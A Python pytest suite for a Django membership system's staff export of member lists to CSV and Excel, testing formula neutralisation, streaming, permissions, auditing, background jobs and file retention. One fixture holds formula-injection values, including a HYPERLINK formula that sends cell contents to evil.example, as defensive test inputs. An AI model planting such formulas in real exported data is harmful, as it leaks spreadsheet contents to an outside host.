"""Exports of the staff member list: what is in the files, who may have them, and how big ones are made.

The files are parsed for real: CSV with the csv module, Excel with zipfile and the workbook's XML (no
openpyxl). Expected rows are built here from the Member rows, independently of dashboard.exports.
"""

import csv
import datetime
import io
import os
import random
import re
import threading
import zipfile
import zoneinfo
from pathlib import Path
from unittest import mock
from xml.etree import ElementTree

import pytest
from django.core.files.base import ContentFile
from django.db import connection
from django.http import QueryDict
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from audit.models import AuditLog
from dashboard import exports
from dashboard.exports import delete_expired_exports, run_export_job
from dashboard.models import ExportJob
from members.filters import MemberFilter, member_list_queryset
from members.models import Member, MembershipCategory
from notifications.models import Message, Notification
from tests.factories import MemberFactory, UserFactory
from tests.idor import assert_nothing_of, body_of, row_of, their_object

pytestmark = pytest.mark.django_db

EXPORT_URL = "/staff/members/export/"
EXPORTS_URL = "/staff/exports/"
NAIROBI = zoneinfo.ZoneInfo("Africa/Nairobi")
UTC = datetime.timezone.utc
HEADERS = [
    "Membership number",
    "First name",
    "Other names",
    "Last name",
    "Email",
    "Phone",
    "ID type",
    "ID number",
    "Category",
    "Status",
    "Country",
    "Region",
    "Applied at",
    "Approved at",
    "Period start",
    "Period end",
    "Registration paid at",
]


# --- Expected rows, built from the models -----------------------------------------------------------------


def _safe(text):
    return "'" + text if text and text[0] in "=+-@\t\r" else text


def _when(value):
    return "" if value is None else value.astimezone(NAIROBI).isoformat(timespec="seconds")


def expected_row(member):
    member = Member.objects.select_related("user", "category", "country", "region").get(pk=member.pk)
    return [
        _safe(member.membership_number or ""),
        _safe(member.user.first_name),
        _safe(member.other_names),
        _safe(member.user.last_name),
        _safe(member.user.email),
        _safe(member.phone_number),
        member.get_id_type_display(),
        _safe(member.id_number),
        _safe(member.category.name),
        member.get_status_display(),
        _safe(member.country.name),
        _safe(member.region.name if member.region else ""),
        _when(member.applied_at),
        _when(member.approved_at),
        member.period_start.isoformat() if member.period_start else "",
        member.period_end.isoformat() if member.period_end else "",
        _when(member.registration_paid_at),
    ]


def expected_rows(query=""):
    """The list's own rows for these filters, in its order."""
    return [expected_row(m) for m in MemberFilter(QueryDict(query), queryset=member_list_queryset()).qs]


# --- Reading the files ------------------------------------------------------------------------------------


def parse_csv(data: bytes):
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 byte order mark for Excel"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
RELATIONSHIP = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"


def _column(reference):
    letters = re.match(r"[A-Z]+", reference).group()
    index = 0
    for letter in letters:
        index = index * 26 + ord(letter) - 64
    return index - 1


def _unescape(text):
    # XML cannot hold most control characters; OOXML writes them as _xHHHH_.
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def _xml(data: bytes):
    return ElementTree.fromstring(data)  # noqa: S314 (a file this test suite has just written)


def parse_xlsx(data: bytes) -> dict[str, list[list[str]]]:
    """Sheet name -> its rows (cell texts, padded to the header width), read from the workbook's XML."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        workbook = _xml(archive.read("xl/workbook.xml"))
        relationships = _xml(archive.read("xl/_rels/workbook.xml.rels"))
        targets = {r.get("Id"): r.get("Target") for r in relationships}
        shared = []
        if "xl/sharedStrings.xml" in archive.namelist():
            for item in _xml(archive.read("xl/sharedStrings.xml")):
                shared.append("".join(t.text or "" for t in item.iter(f"{MAIN}t")))
        sheets = {}
        for sheet in workbook.find(f"{MAIN}sheets"):
            target = targets[sheet.get(RELATIONSHIP)].removeprefix("/xl/")
            xml = _xml(archive.read(f"xl/{target}"))
            rows = []
            for row in xml.iter(f"{MAIN}row"):
                cells = {}
                for cell in row.findall(f"{MAIN}c"):
                    kind = cell.get("t")
                    if kind == "inlineStr":
                        text = "".join(t.text or "" for t in cell.iter(f"{MAIN}t"))
                    elif kind == "s":
                        text = shared[int(cell.find(f"{MAIN}v").text)]
                    else:
                        raise AssertionError(f"cell {cell.get('r')} is not text: {kind!r}")
                    cells[_column(cell.get("r"))] = _unescape(text)
                rows.append([cells.get(i, "") for i in range(len(HEADERS))])
            sheets[sheet.get("name")] = rows
    return sheets


def content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


# --- Data -------------------------------------------------------------------------------------------------


@pytest.fixture
def members(alice, bob):
    """Six members: the two applicants, an active member, one with hostile names, one with awkward
    characters, an expired member with a passport and no region."""
    active = MemberFactory(
        documents=[],
        user__first_name="Wanjiru",
        user__last_name="Kamau",
        other_names="O'Brien",
        status=Member.Status.ACTIVE,
        membership_number="KTS-2025-0001",
        category=MembershipCategory.objects.get(code="student"),
        # 22:30 UTC is 01:30 the next day in Nairobi.
        applied_at=datetime.datetime(2025, 3, 4, 22, 30, 15, 123456, tzinfo=UTC),
        approved_at=datetime.datetime(2025, 3, 5, 7, 0, tzinfo=UTC),
        registration_paid_at=datetime.datetime(2025, 3, 6, 9, 15, tzinfo=UTC),
        period_start=datetime.date(2025, 3, 6),
        period_end=datetime.date(2026, 3, 5),
    )
    hostile = MemberFactory(
        documents=[],
        user__first_name='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        user__last_name="+254700000000",
        user__email="-cmd@example.com",
        other_names="-2+3",
        id_number="@SUM(1+1)",
        status=Member.Status.APPROVED,  # "Approved, awaiting registration fee": a comma to quote
        membership_number="KTS-2025-0002",
        applied_at=datetime.datetime(2025, 2, 1, 8, 0, tzinfo=UTC),
        approved_at=datetime.datetime(2025, 2, 2, 8, 0, tzinfo=UTC),
    )
    awkward = MemberFactory(
        documents=[],
        user__first_name="\tTabbed",
        user__last_name="\rReturned",
        other_names='Wanjirũ "Shiro", Njeri\nsecond line',
        status=Member.Status.PENDING,
        applied_at=datetime.datetime(2025, 1, 10, 12, 0, tzinfo=UTC),
    )
    expired = MemberFactory(
        documents=[],
        user__first_name="Otieno",
        user__last_name="Odhiambo",
        id_type=Member.IdType.PASSPORT,
        id_number="AB123456",
        status=Member.Status.EXPIRED,
        membership_number="KTS-2024-0009",
        region=None,
        applied_at=datetime.datetime(2024, 1, 10, 12, 0, tzinfo=UTC),
        period_start=datetime.date(2024, 1, 11),
        period_end=datetime.date(2025, 1, 10),
    )
    return [alice, bob, active, hostile, awkward, expired]


@pytest.fixture
def finance_client(client, finance_user):
    client.force_login(finance_user)
    return client


def export(client, **params):
    return client.get(EXPORT_URL, params)


# --- CSV --------------------------------------------------------------------------------------------------


def test_csv_is_the_filtered_list_streamed_with_every_column(finance_client, members):
    response = export(finance_client, format="csv")
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="members-')
    assert response["Cache-Control"] == "private, no-store"
    rows = parse_csv(content(response))
    assert rows[0] == HEADERS
    assert rows[1:] == expected_rows()
    assert len(rows) == 1 + len(members)


def test_csv_follows_the_lists_filters_and_order(finance_client, members):
    active, expired = members[2], members[5]
    for query in ("status=active", "q=odhiambo", "category=student", "ordering=name", "ordering=-expires"):
        rows = parse_csv(content(finance_client.get(f"{EXPORT_URL}?{query}&format=csv")))
        assert rows[1:] == expected_rows(query), query
    rows = parse_csv(content(finance_client.get(f"{EXPORT_URL}?status=active&format=csv")))
    assert [r[0] for r in rows[1:]] == [active.membership_number]
    rows = parse_csv(content(finance_client.get(f"{EXPORT_URL}?q=odhiambo&format=csv")))
    assert [r[0] for r in rows[1:]] == [expired.membership_number]
    rows = parse_csv(content(finance_client.get(f"{EXPORT_URL}?ordering=name&format=csv")))
    assert [r[3] for r in rows[1:]] == sorted(r[3] for r in rows[1:])


def test_csv_is_the_default_format_and_an_empty_result_is_just_the_header(finance_client, members):
    response = finance_client.get(EXPORT_URL, {"q": "nobody-matches-this"})
    assert response.status_code == 200
    assert parse_csv(content(response)) == [HEADERS]


def test_dates_are_iso_8601_in_nairobi_time(finance_client, members):
    rows = parse_csv(content(export(finance_client, q="KTS-2025-0001")))
    row = dict(zip(HEADERS, rows[1], strict=True))
    assert row["Applied at"] == "2025-03-05T01:30:15+03:00"  # the day after, in Nairobi; no microseconds
    assert row["Approved at"] == "2025-03-05T10:00:00+03:00"
    assert row["Registration paid at"] == "2025-03-06T12:15:00+03:00"
    assert row["Period start"] == "2025-03-06"
    assert row["Period end"] == "2026-03-05"
    assert row["Status"] == "Active"
    assert row["Category"] == "Student"
    assert row["Region"] == "Nairobi City"


def test_formulas_are_neutralised_and_harmless_text_is_left_alone(finance_client, members):
    rows = {r[0] or r[1]: dict(zip(HEADERS, r, strict=True)) for r in parse_csv(content(export(finance_client)))[1:]}
    hostile = rows["KTS-2025-0002"]
    assert hostile["First name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert hostile["Last name"] == "'+254700000000"
    assert hostile["Email"] == "'-cmd@example.com"
    assert hostile["Other names"] == "'-2+3"
    assert hostile["ID number"] == "'@SUM(1+1)"
    assert hostile["Status"] == "Approved, awaiting registration fee"
    awkward = rows["'\tTabbed"]
    assert awkward["Last name"] == "'\rReturned"
    assert awkward["Other names"] == 'Wanjirũ "Shiro", Njeri\nsecond line'
    assert rows["KTS-2025-0001"]["Other names"] == "O'Brien"
    for row in rows.values():
        for value in row.values():
            assert value[:1] not in "=+-@\t\r" or value == "", value


def test_neutralise_formula():
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert exports.neutralise_formula(text) == "'" + text
    for text in ("", "Alice", "O'Brien", " =1", "254712345678", "'=1"):
        assert exports.neutralise_formula(text) == text


def test_csv_text_is_exactly_what_the_csv_module_writes():
    """The plain-row fast path of iter_csv_text must never differ from csv.writer."""
    alphabet = ["a", "B", "1", " ", ",", '"', "\r", "\n", "'", "=", "ũ", "\t", ";", "é"]
    generator = random.Random(20260115)
    rows = [("",), (), ("a",), ("a,b", "c"), ('"',), ("x", None, 3, 2.5), ("",) * 3]
    for _ in range(3000):
        rows.append(
            tuple("".join(generator.choice(alphabet) for _ in range(generator.randint(0, 6))) for _ in range(5))
        )
    reference = io.StringIO()
    writer = csv.writer(reference)
    writer.writerow(HEADERS)
    writer.writerows(rows)
    assert "".join(exports.iter_csv_text(rows, headers=HEADERS, chunk_rows=7)) == reference.getvalue()
    out = io.StringIO()
    assert exports.write_csv(rows, out, headers=HEADERS, chunk_rows=100) == len(rows)
    assert out.getvalue() == reference.getvalue()
    streamed = b"".join(exports.stream_csv(rows, headers=HEADERS, chunk_rows=50))
    assert streamed == b"\xef\xbb\xbf" + reference.getvalue().encode()


def test_the_csv_stream_reads_in_batches_whatever_the_number_of_rows(finance_client, members, monkeypatch):
    monkeypatch.setattr(exports, "EXPORT_CHUNK_SIZE", 2)

    def queries_for_one_export():
        with CaptureQueriesContext(connection) as captured:
            rows = parse_csv(content(export(finance_client, format="csv")))
        return len(captured.captured_queries), len(rows) - 1

    few_queries, few_rows = queries_for_one_export()
    for _ in range(12):
        MemberFactory(documents=[])
    many_queries, many_rows = queries_for_one_export()
    assert (few_rows, many_rows) == (6, 18)
    assert many_queries == few_queries
    # One SELECT of the members whatever the number of chunks (PostgreSQL: a server-side cursor).
    with CaptureQueriesContext(connection) as captured:
        assert sum(1 for _ in exports.member_export_rows(member_list_queryset(), chunk_size=2)) == 18
    assert sum("members_member" in q["sql"] for q in captured.captured_queries) == 1


def test_stopping_early_leaves_the_connection_usable(members):
    rows = exports.member_export_rows(member_list_queryset().order_by("-applied_at", "-pk"), chunk_size=2)
    first = next(rows)
    rows.close()  # what a streamed response does when the client goes away
    assert list(first) == expected_rows()[0]
    assert Member.objects.count() == len(members)
    assert sum(1 for _ in exports.member_export_rows(member_list_queryset())) == len(members)
    if connection.vendor == "postgresql":
        # The export's session settings (time zone for to_char) do not outlive it.
        with connection.cursor() as cursor:
            cursor.execute("SELECT current_setting('TimeZone'), current_setting('cursor_tuple_fraction')")
            assert cursor.fetchone() == ("UTC", "0.1")


# --- Excel ------------------------------------------------------------------------------------------------


def test_xlsx_has_the_same_rows_as_text(finance_client, members):
    response = export(finance_client, format="xlsx")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].startswith('attachment; filename="members-')
    assert response["Content-Disposition"].rstrip('"').endswith(".xlsx")
    sheets = parse_xlsx(content(response))
    assert list(sheets) == ["Members"]
    assert sheets["Members"][0] == HEADERS
    assert sheets["Members"][1:] == expected_rows()
    firsts = [row[1] for row in sheets["Members"][1:]]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")' in firsts
    assert "'\tTabbed" in firsts


def test_xlsx_goes_on_in_new_sheets_at_the_row_limit(finance_client, members, monkeypatch):
    monkeypatch.setattr(exports, "SHEET_MAX_ROWS", 3)  # the header and two members a sheet
    sheets = parse_xlsx(content(export(finance_client, format="xlsx")))
    assert list(sheets) == ["Members", "Members 2", "Members 3"]
    assert all(rows[0] == HEADERS for rows in sheets.values())
    assert [len(rows) for rows in sheets.values()] == [3, 3, 3]
    assert [row for rows in sheets.values() for row in rows[1:]] == expected_rows()


def test_write_xlsx_to_a_path_counts_rows_and_splits_exactly_at_the_limit(tmp_path, monkeypatch):
    monkeypatch.setattr(exports, "SHEET_MAX_ROWS", 4)
    rows = [[f"N{i}"] + [""] * 16 for i in range(7)]  # 3 + 3 + 1
    path = tmp_path / "out.xlsx"
    assert exports.write_xlsx(rows, path) == 7
    sheets = parse_xlsx(path.read_bytes())
    assert [len(r) for r in sheets.values()] == [4, 4, 2]
    assert [r[0] for rows_ in sheets.values() for r in rows_[1:]] == [f"N{i}" for i in range(7)]
    assert list(tmp_path.iterdir()) == [path], "XlsxWriter's temporary files are gone"
    assert exports.write_xlsx([], tmp_path / "empty.xlsx") == 0
    assert parse_xlsx((tmp_path / "empty.xlsx").read_bytes()) == {"Members": [HEADERS]}


# --- Invalid requests -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("joined_after=2024-13-45", "Applied between"),
        ("expires_before=not-a-date", "Period ends between"),
        ("category=no-such-category", "Category"),
        ("status=dormant", "Status"),
        ("ordering=password", "Sort by"),
        ("format=pdf", "Unknown format"),
    ],
)
def test_invalid_filters_are_a_400_and_export_nothing(finance_client, members, query, message):
    response = finance_client.get(f"{EXPORT_URL}?{query}")
    assert response.status_code == 400
    assert not response.streaming
    assert message in response.content.decode()
    assert not AuditLog.objects.filter(action=AuditLog.Action.EXPORTED).exists()
    assert not ExportJob.objects.exists()


# --- Permissions ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("who", "expected"),
    [("anonymous", 302), ("member", 403), ("staff", 403), ("finance", 200), ("admin", 200)],
)
def test_who_may_export(client, request, members, who, expected):
    if who != "anonymous":
        user = {"member": lambda: members[1].user}.get(who, lambda: request.getfixturevalue(f"{who}_user"))()
        client.force_login(user)
    for url in (f"{EXPORT_URL}?format=csv", f"{EXPORT_URL}?format=xlsx", EXPORTS_URL):
        response = client.get(url)
        assert response.status_code == expected, url
        if expected == 302:
            assert response["Location"].startswith(reverse("accounts:login"))


def test_the_url_names(members):
    assert reverse("dashboard:member_export") == EXPORT_URL
    assert reverse("dashboard:exports") == EXPORTS_URL
    assert reverse("dashboard:export_download", args=[7]) == "/staff/exports/7/download/"


# --- Audit ------------------------------------------------------------------------------------------------


def test_an_export_in_the_request_is_audited_with_who_what_and_how_many(finance_client, finance_user, members):
    content(export(finance_client, format="xlsx", status="active", page="3"))
    entry = AuditLog.objects.get(action=AuditLog.Action.EXPORTED)
    assert entry.actor == finance_user
    assert entry.data == {"what": "members", "format": "xlsx", "filter": "status=active", "rows": 1}


def test_the_decision_to_stream_uses_a_capped_count(finance_client, members, settings):
    settings.EXPORT_SYNC_MAX_ROWS = 3
    with CaptureQueriesContext(connection) as captured:
        finance_client.get(EXPORT_URL, {"format": "xlsx"})
    counts = [
        q["sql"] for q in captured.captured_queries if "COUNT(" in q["sql"].upper() and "members_member" in q["sql"]
    ]
    assert len(counts) == 1
    assert "LIMIT 4" in counts[0], counts


# --- Background exports -----------------------------------------------------------------------------------


@pytest.fixture
def small_limit(settings):
    settings.EXPORT_SYNC_MAX_ROWS = 2
    settings.SITE_URL = "https://members.example.org"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_big_export_runs_in_the_background_and_the_user_is_told(
    finance_client,
    finance_user,
    members,
    small_limit,
    settings,
    file_format,
    django_capture_on_commit_callbacks,
    mailoutbox,
):
    with django_capture_on_commit_callbacks(execute=True):
        response = finance_client.get(EXPORT_URL, {"format": file_format, "status": "", "page": "2"})
    assert response.status_code == 202
    job = ExportJob.objects.get()
    assert (job.user, job.format, job.query_string) == (finance_user, file_format, "status=")
    assert job.status == ExportJob.Status.DONE, job.error
    assert job.row_count == len(members)
    assert job.finished_at is not None

    # In private storage under exports/, under a random name: never in public media.
    assert re.fullmatch(rf"exports/[0-9a-f]{{32}}\.{file_format}", job.file.name)
    stored = Path(settings.PRIVATE_MEDIA_ROOT) / job.file.name
    assert stored.is_file()
    assert not list(Path(settings.MEDIA_ROOT).rglob(f"*.{file_format}"))

    download_path = f"/staff/exports/{job.pk}/download/"
    download = finance_client.get(download_path)
    assert download.status_code == 200
    assert download["Cache-Control"] == "private, no-store"
    assert job.download_name in download["Content-Disposition"]
    data = content(download)
    if file_format == "csv":
        assert parse_csv(data) == [HEADERS, *expected_rows()]
    else:
        assert parse_xlsx(data) == {"Members": [HEADERS, *expected_rows()]}

    notification = Notification.objects.get(user=finance_user, event="export_ready")
    assert notification.link == download_path
    assert f"{len(members)} rows" in notification.title
    email = Message.objects.get(user=finance_user, event="export_ready", channel=Message.Channel.EMAIL)
    assert email.recipient == finance_user.email
    assert f"https://members.example.org{download_path}" in email.body
    assert [m.to for m in mailoutbox] == [[finance_user.email]]

    queued, done = AuditLog.objects.filter(action=AuditLog.Action.EXPORTED).order_by("pk")
    assert queued.actor == done.actor == finance_user
    assert queued.data == {
        "what": "members",
        "format": file_format,
        "filter": "status=",
        "rows": None,
        "more_than": 2,
        "status": "queued",
        "job": job.pk,
    }
    assert done.data == {"what": "members", "format": file_format, "filter": "status=", "rows": 6, "job": job.pk}
    assert (done.target_type, done.target_id) == ("dashboard.exportjob", str(job.pk))

    page = finance_client.get(EXPORTS_URL)
    assert page.status_code == 200
    assert download_path in page.content.decode()


def test_the_background_export_keeps_the_filters_and_the_sheet_split(
    finance_client, members, small_limit, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(exports, "SHEET_MAX_ROWS", 2)
    with django_capture_on_commit_callbacks(execute=True):
        finance_client.get(EXPORT_URL, {"format": "xlsx", "ordering": "name", "country": "KE"})
    job = ExportJob.objects.get()
    assert job.row_count == 6
    sheets = parse_xlsx(content(finance_client.get(f"/staff/exports/{job.pk}/download/")))
    assert list(sheets) == ["Members"] + [f"Members {n}" for n in range(2, 7)]
    assert [rows[1] for rows in sheets.values()] == expected_rows("ordering=name&country=KE")


def test_asking_again_while_it_is_prepared_follows_the_same_job(finance_client, members, small_limit):
    first = finance_client.get(EXPORT_URL, {"format": "csv"})  # on_commit never runs: still queued
    second = finance_client.get(EXPORT_URL, {"format": "csv"})
    assert first.status_code == second.status_code == 202
    job = ExportJob.objects.get()
    assert job.status == ExportJob.Status.QUEUED
    assert "already being prepared" in second.content.decode()
    assert finance_client.get(f"/staff/exports/{job.pk}/download/").status_code == 404  # not ready
    assert run_export_job(job.pk).status == ExportJob.Status.DONE
    assert run_export_job(job.pk) is None  # once only


def test_a_failed_export_says_so(
    finance_client, finance_user, members, small_limit, django_capture_on_commit_callbacks
):
    with (
        mock.patch("dashboard.exports.write_csv", side_effect=OSError("disk full")),
        django_capture_on_commit_callbacks(execute=True),
    ):
        response = finance_client.get(EXPORT_URL, {"format": "csv"})
    assert response.status_code == 202
    job = ExportJob.objects.get()
    assert job.status == ExportJob.Status.FAILED
    assert "could not be written" in job.error
    assert "disk full" not in job.error  # internals go to the log, not to the page
    assert not job.file
    notification = Notification.objects.get(user=finance_user, event="export_failed")
    assert notification.link == EXPORTS_URL
    assert "could not be written" in finance_client.get(EXPORTS_URL).content.decode()
    assert AuditLog.objects.filter(action=AuditLog.Action.EXPORTED).count() == 1  # the request only


def test_a_stale_running_export_is_taken_over_but_a_fresh_one_is_not(finance_user, members, small_limit):
    fresh = ExportJob.objects.create(
        user=finance_user, format="csv", status=ExportJob.Status.RUNNING, started_at=timezone.now()
    )
    stale = ExportJob.objects.create(
        user=finance_user,
        format="csv",
        status=ExportJob.Status.RUNNING,
        started_at=timezone.now() - exports.STALE_RUNNING_AFTER - datetime.timedelta(minutes=1),
    )
    assert run_export_job(fresh.pk) is None
    assert run_export_job(stale.pk).status == ExportJob.Status.DONE


def test_an_export_given_up_on_while_it_was_written_stays_failed(finance_user, members, small_limit):
    job = ExportJob.objects.create(user=finance_user, format="csv", query_string="")

    def give_up_meanwhile(rows, file):
        ExportJob.objects.filter(pk=job.pk).update(status=ExportJob.Status.FAILED, error="gave up")
        return 0

    with mock.patch("dashboard.exports.write_csv", side_effect=give_up_meanwhile):
        finished = run_export_job(job.pk)
    assert (finished.status, finished.error) == (ExportJob.Status.FAILED, "gave up")
    assert not AuditLog.objects.filter(action=AuditLog.Action.EXPORTED).exists()
    assert not Notification.objects.filter(user=finance_user).exists()


def test_the_export_statuses_move_only_forward():
    table = exports.EXPORT_TRANSITIONS
    assert table.statuses == set(ExportJob.Status.values)
    assert table.allowed_from(ExportJob.Status.QUEUED) == frozenset()
    assert not [to for to in ExportJob.Status.values if table.allows(ExportJob.Status.EXPIRED, to)]


def test_only_the_owner_or_an_admin_may_download(client, request, members, small_limit, finance_user, admin_user):
    job = ExportJob.objects.create(user=finance_user, format="csv", query_string="")
    run_export_job(job.pk)
    url = f"/staff/exports/{job.pk}/download/"
    assert client.get(url)["Location"].startswith(reverse("accounts:login"))
    other_finance = UserFactory(email="fred.finance@example.com", is_staff=True)
    other_finance.groups.add(finance_user.groups.get())
    job = their_object(ExportJob, job.pk, user=finance_user, status=ExportJob.Status.DONE)
    with job.file.open("rb") as stored:
        content = stored.read()
    first_row = content.decode("utf-8-sig").splitlines()[1]
    listed = members[-1]  # someone in the file other than the member who asks below
    assert len(members) > 1 and listed.user.email in content.decode("utf-8-sig")  # data to leak
    before = row_of(job)
    for user, expected in [
        (other_finance, 404),
        (request.getfixturevalue("staff_user"), 404),
        (members[0].user, 404),
        (admin_user, 200),
        (finance_user, 200),
    ]:
        client.force_login(user)
        response = client.get(url)
        assert response.status_code == expected, user
        if expected == 404:
            assert_nothing_of(listed, response, first_row, job.file.name.rsplit("/", 1)[-1])
        else:
            assert body_of(response) == content
    assert row_of(job) == before
    assert client.get("/staff/exports/999999/download/").status_code == 404
    # The list shows each user only their own exports.
    client.force_login(other_finance)
    assert url not in client.get(EXPORTS_URL).content.decode()


# --- Retention --------------------------------------------------------------------------------------------


def test_old_files_are_deleted_and_unfinished_jobs_given_up(finance_client, finance_user, members, settings):
    settings.EXPORT_RETENTION_HOURS = 24
    now = timezone.now()
    old, recent, stuck = (
        ExportJob.objects.create(user=finance_user, format="csv", status=ExportJob.Status.DONE, row_count=1),
        ExportJob.objects.create(user=finance_user, format="csv", status=ExportJob.Status.DONE, row_count=1),
        ExportJob.objects.create(user=finance_user, format="xlsx", created_at=now - datetime.timedelta(hours=30)),
    )
    for job, hours in ((old, 25), (recent, 23)):
        job.file.save("members.csv", ContentFile(b"x"), save=False)
        job.finished_at = now - datetime.timedelta(hours=hours)
        job.save()
    private = Path(settings.PRIVATE_MEDIA_ROOT)
    old_path, recent_path = private / old.file.name, private / recent.file.name
    orphan_old, orphan_new = private / "exports" / "leftover1.csv", private / "exports" / "leftover2.csv"
    orphan_old.write_bytes(b"x")
    orphan_new.write_bytes(b"x")
    long_ago = (now - datetime.timedelta(hours=48)).timestamp()
    os.utime(orphan_old, (long_ago, long_ago))

    assert delete_expired_exports(now=now) == {"expired": 1, "orphans": 1, "abandoned": 1}
    assert not old_path.exists() and not orphan_old.exists()
    assert recent_path.exists() and orphan_new.exists()
    old.refresh_from_db()
    stuck.refresh_from_db()
    assert (old.status, old.file.name) == (ExportJob.Status.EXPIRED, "")
    assert stuck.status == ExportJob.Status.FAILED
    assert finance_client.get(f"/staff/exports/{old.pk}/download/").status_code == 404
    assert finance_client.get(f"/staff/exports/{recent.pk}/download/").status_code == 200
    assert delete_expired_exports(now=now) == {"expired": 0, "orphans": 0, "abandoned": 0}


def test_the_clean_up_runs_hourly_from_celery_beat(settings):
    from dashboard.tasks import delete_old_exports

    entries = [e for e in settings.CELERY_BEAT_SCHEDULE.values() if e["task"] == "dashboard.delete_old_exports"]
    assert len(entries) == 1
    assert delete_old_exports.name == "dashboard.delete_old_exports"


def test_region_can_be_missing(members):
    """A member without a region exports an empty Region cell (LEFT JOIN), not a dropped row."""
    expired = members[5]
    assert expired.region is None
    rows = list(exports.member_export_rows(member_list_queryset().filter(pk=expired.pk)))
    assert rows == [tuple(expected_row(expired))]
    assert rows[0][HEADERS.index("Region")] == ""


@pytest.mark.parametrize(
    ("zone", "applied", "expected"),
    [
        ("Asia/Kolkata", datetime.datetime(2025, 3, 4, 22, 30, tzinfo=UTC), "2025-03-05T04:00:00+05:30"),
        ("America/New_York", datetime.datetime(2025, 1, 4, 22, 30, tzinfo=UTC), "2025-01-04T17:30:00-05:00"),
        ("America/New_York", datetime.datetime(2025, 7, 4, 22, 30, tzinfo=UTC), "2025-07-04T18:30:00-04:00"),
        # Before standard time Nairobi kept local mean time, +02:27:16.
        ("Africa/Nairobi", datetime.datetime(1900, 1, 1, 12, 0, tzinfo=UTC), "1900-01-01T14:27:16+02:27:16"),
    ],
)
def test_times_are_written_with_the_zones_own_offset(reference_data, settings, zone, applied, expected):
    settings.TIME_ZONE = zone
    member = MemberFactory(documents=[], applied_at=applied)
    (row,) = exports.member_export_rows(member_list_queryset().filter(pk=member.pk))
    assert row[HEADERS.index("Applied at")] == expected
    assert expected == applied.astimezone(zoneinfo.ZoneInfo(zone)).isoformat(timespec="seconds")


def test_the_prefetching_thread_hands_over_errors_and_stops_with_the_caller():
    def threads():
        return [t for t in threading.enumerate() if t.name == "member-export-prefetch"]

    chunks = iter([[1, 2], [3, 4], [5]])
    assert list(exports._prefetched(lambda size: next(chunks, []), 2)) == [1, 2, 3, 4, 5]

    calls = iter(range(10))

    def failing(size):
        if next(calls) == 1:
            raise RuntimeError("connection lost")
        return [0] * size

    with pytest.raises(RuntimeError, match="connection lost"):
        list(exports._prefetched(failing, 3))
    assert not threads()

    endless = exports._prefetched(lambda size: [0] * size, 100)
    assert next(endless) == 0
    endless.close()  # the client went away
    assert not threads()
